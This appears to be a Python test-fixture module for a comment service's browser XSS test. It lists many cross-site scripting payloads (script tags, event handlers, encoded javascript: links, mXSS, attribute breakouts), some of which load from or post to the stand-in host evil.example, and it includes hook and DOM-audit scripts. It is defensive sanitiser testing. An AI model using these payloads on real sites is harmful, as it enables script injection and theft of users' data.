"""Injection payloads for the browser XSS test: our own list, for every field.

A payload that would run sets ``window.__xss`` (or calls alert/confirm/
prompt/print, which the test hooks), navigates, or loads something from a
host that is neither the service nor the host page (``evil.example``). The
test also walks the rendered DOM for what should never survive sanitising
(event handler attributes, ``javascript:``/``data:`` URLs, frames, forms,
``<base>``, ``<meta>``, ``<style>``...), since a page with a strict CSP (the
standalone page) would block an injected script without telling.
"""

from __future__ import annotations

EVIL = "http://evil.example"


def _mark(name: str) -> str:
    return f"window.__xss='{name}'"


# Comment text: markdown with raw HTML in it.
TEXT = [
    # plain tags and handlers
    f"<script>{_mark('script')}</script>",
    f"<SCRIPT SRC={EVIL}/x.js></SCRIPT>",
    f'<img src=x onerror="{_mark("img-onerror")}">',
    f"<img src=x onerror={_mark('img-unquoted')}//>",
    f'<svg onload="{_mark("svg-onload")}"></svg>',
    f"<svg><script>{_mark('svg-script')}</script></svg>",
    f'<svg><a xlink:href="javascript:{_mark("svg-xlink")}"><text y="15">svg a</text></a></svg>',
    f'<svg><animate attributeName="href" to="javascript:{_mark("svg-animate")}"/></svg>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{_mark("mxss-math")}">',
    f'<math href="javascript:{_mark("math-href")}">math link</math>',
    f'<noscript><p title="</noscript><img src=x onerror={_mark("mxss-noscript")}>">',
    f'<details open ontoggle="{_mark("details-ontoggle")}"><summary>x</summary></details>',
    f'<body onload="{_mark("body-onload")}">',
    f'<input autofocus onfocus="{_mark("input-autofocus")}">',
    f'<video><source onerror="{_mark("video-source")}"></video>',
    f'<audio src=x onerror="{_mark("audio")}"></audio>',
    f'<marquee onstart="{_mark("marquee")}">m</marquee>',
    f'<div onmouseover="{_mark("div-hover")}" style="position:fixed;inset:0">hover</div>',
    f'<a href="javascript:{_mark("a-js")}">plain js link</a>',
    '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
    '<a href="java&#x09;script:alert(1)">entity tab</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">dec</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">hex and named</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058alert(1)">padded</a>',
    '<a href=" &#14;  javascript:alert(1)">leading control</a>',
    '<a href="vbscript:msgbox(1)">vbscript</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
    # markdown links and images
    f"[md link](javascript:{_mark('md-js')})",
    "[md mixed](JaVaScRiPt:alert(1))",
    "[md entity](jav&#x61;script:alert(1))",
    "[md dec](&#106;avascript:alert(1))",
    "[md tab](java\tscript:alert(1))",
    "[md space]( javascript:alert(1))",
    "[md angle](<javascript:alert(1)>)",
    "[md data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[md ref][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    f'![md img](x" onerror="{_mark("md-img-breakout")})',
    "![md img js](javascript:alert(1))",
    f"![md img remote]({EVIL}/pixel.png)",
    f'[quote breakout](http://x.example/" onmouseover="{_mark("md-href-breakout")})',
    f'[title breakout](http://x.example/ "t" onmouseover="{_mark("md-title")}")',
    # attribute and context breakouts
    f'"><img src=x onerror="{_mark("breakout-double")}">',
    f'\'><svg onload="{_mark("breakout-single")}">',
    f"</script><script>{_mark('close-script')}</script>",
    f'</textarea><img src=x onerror="{_mark("close-textarea")}">',
    f'</style><img src=x onerror="{_mark("close-style")}">',
    f'<!--<img src="--><img src=x onerror="{_mark("comment-breakout")}"//">',
    f'<![CDATA[<img src=x onerror="{_mark("cdata")}">]]>',
    f'`<img src=x onerror="{_mark("backtick")}">`',
    # template syntax (must stay literal text)
    "{{7*7}}",
    "${7*7}",
    "{{constructor.constructor('window.__xss=\"tpl\"')()}}",
    "#{7*7} <%= 7*7 %> [[7*7]]",
    # frames, base, meta, forms, objects
    f'<iframe srcdoc="<script>parent.{_mark("srcdoc")}</script>"></iframe>',
    f'<iframe src="javascript:parent.{_mark("iframe-js")}"></iframe>',
    f'<iframe src="{EVIL}/frame"></iframe>',
    f'<object data="javascript:{_mark("object")}"></object>',
    f'<embed src="{EVIL}/x.swf">',
    f'<base href="{EVIL}/">',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{_mark("meta-refresh")}">',
    f'<link rel="stylesheet" href="{EVIL}/x.css">',
    f'<form action="{EVIL}/steal"><input name="q" value="x"><button>Send</button></form>',
    f'<button formaction="javascript:{_mark("formaction")}">formaction</button>',
    f'<isindex action="javascript:{_mark("isindex")}" type=image>',
    # CSS injection
    f"<style>*{{background:url({EVIL}/css.png)}} .parley{{display:none}}</style>",
    f'<div style="background:url({EVIL}/inline.png);position:fixed;inset:0;z-index:9">css</div>',
    f'<p style="behavior:url(x.htc);-moz-binding:url({EVIL}/x.xml#x)">binding</p>',
    # odd characters
    f'\u202e<img src=x onerror="{_mark("rtl")}">',
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    f"<scr<script>ipt>{_mark('nested-script')}</scr</script>ipt>",
    f'<img src=x on\u200berror="{_mark("zero-width")}">',
    # very long input: just under and just over the limit, payload at the end
    "A" * 9_950 + f'<img src=x onerror="{_mark("long-under")}">',
    "A" * 10_000 + f'<img src=x onerror="{_mark("long-over")}">',
]

# Author names (1-80 visible characters).
NAMES = [
    f'<img src=x onerror="{_mark("name-img")}">',
    f'"><svg onload="{_mark("name-breakout")}">',
    f"</script><script>{_mark('name-script')}</script>",
    "{{7*7}} ${7*7}",
    f"<a href=javascript:{_mark('name-link')}>n</a>",
]

# Websites (refused unless http/https; what is kept is an attribute value).
WEBSITES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    f'http://x.example/" onmouseover="{_mark("website-breakout")}',
    f'http://x.example/\'><img src=x onerror="{_mark("website-single")}">',
    "https://x.example/?q=<script>alert(1)</script>",
    "//evil.example/protocol-relative",
]

# Page titles (shown on the standalone page and in JSON-LD).
TITLES = [
    f"</title><script>{_mark('title-script')}</script>",
    f'"><img src=x onerror="{_mark("title-img")}">',
    "{{7*7}} ${7*7}",
]


def url_payloads(host_origin: str) -> list[str]:
    """Page addresses on the allowed origin that try to break out of an attribute."""
    return [
        f'{host_origin}/a"onmouseover="{_mark("url-breakout")}"',
        f"{host_origin}/b'><img/src=x/onerror={_mark('url-single')}>",
        f"{host_origin}/c?<script>{_mark('url-script')}</script>",
    ]


# A page id is free text too: it lands in data-page attributes and JSON-LD keys.
PAGE_ID_PAYLOAD = (
    f'/e2e/xss/"><img src=x onerror="{_mark("page-id")}"><script>{_mark("page-id-script")}</script>'  # noqa: E501
)

# Installed in every frame before any page script: hooks and the flag list.
INIT_SCRIPT = """
(() => {
  const hits = (window.__xssHits = []);
  const hit = (what) => {
    hits.push(String(what));
    try { if (window.top !== window) (window.top.__xssHits || []).push('frame:' + what); }
    catch (e) { /* another origin */ }
  };
  for (const name of ['alert', 'confirm', 'prompt', 'print']) {
    window[name] = function () { hit(name + ':' + [].join.call(arguments, ',')); };
  }
  document.addEventListener('securitypolicyviolation', (e) => {
    hit('csp:' + e.violatedDirective + ':' + e.blockedURI + ':' + (e.sample || ''));
  }, true);
})();
"""

# Walks a document, its shadow roots, for what sanitising must have removed.
# Returns a list of findings; run in every frame.
DOM_AUDIT = r"""
(origins) => {
  const found = [];
  const URL_ATTRS = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'srcdoc',
                     'poster', 'background', 'ping', 'srcset', 'codebase', 'cite', 'lowsrc',
                     'dynsrc', 'to', 'from', 'values'];
  const LOADS = ['src', 'srcset', 'data', 'poster', 'background', 'lowsrc', 'dynsrc'];
  const BAD_TAGS = ['SCRIPT', 'IFRAME', 'FRAME', 'FRAMESET', 'OBJECT', 'EMBED', 'APPLET',
                    'BASE', 'META', 'STYLE', 'LINK', 'SVG', 'MATH', 'INPUT', 'BUTTON',
                    'TEXTAREA', 'SELECT', 'FORM', 'ISINDEX', 'DETAILS', 'VIDEO', 'AUDIO',
                    'SOURCE', 'MARQUEE', 'NOSCRIPT', 'TEMPLATE', 'BODY', 'HTML', 'TITLE'];
  const squash = (v) => v.replace(/[\u0000-\u0020\u007f-\u00a0\u200b-\u200f\u2028-\u202e]/g, '')
                         .toLowerCase();
  const where = (el) => {
    const c = el.closest('.parley-comment');
    return (c ? '#' + c.id + ' ' : '') + el.tagName.toLowerCase();
  };
  const visit = (root, inShadow) => {
    for (const el of root.querySelectorAll('*')) {
      if (el.shadowRoot) visit(el.shadowRoot, true);
      const user = el.closest('.parley-body, .parley-author, .parley-meta, .parley-standalone h1');
      for (const attr of el.attributes) {
        const name = attr.name.toLowerCase();
        if (name.startsWith('on')) found.push(where(el) + ' has ' + name + '=' + attr.value);
        if (URL_ATTRS.includes(name)) {
          const v = squash(attr.value);
          const image = name === 'src' && /^data:image\//.test(v) && !user;
          if (/^(javascript|vbscript|livescript|data):/.test(v) && !image)
            found.push(where(el) + ' ' + name + '=' + attr.value.slice(0, 120));
          if (LOADS.includes(name) && /^(https?:)?\/\//.test(v)) {
            let host = '';
            try { host = new URL(attr.value, location.href).origin; } catch (e) { host = v; }
            if (!origins.includes(host))
              found.push(where(el) + ' loads ' + attr.value.slice(0, 120));
          }
        }
        if (user && name === 'style') found.push(where(el) + ' style=' + attr.value.slice(0, 120));
      }
      const content = el.closest('.parley-body, .parley-author');
      if (content && BAD_TAGS.includes(el.tagName.toUpperCase()))
        found.push('user content holds <' + el.tagName.toLowerCase() + '> in ' + where(el));
    }
  };
  visit(document, false);
  return found;
}
"""
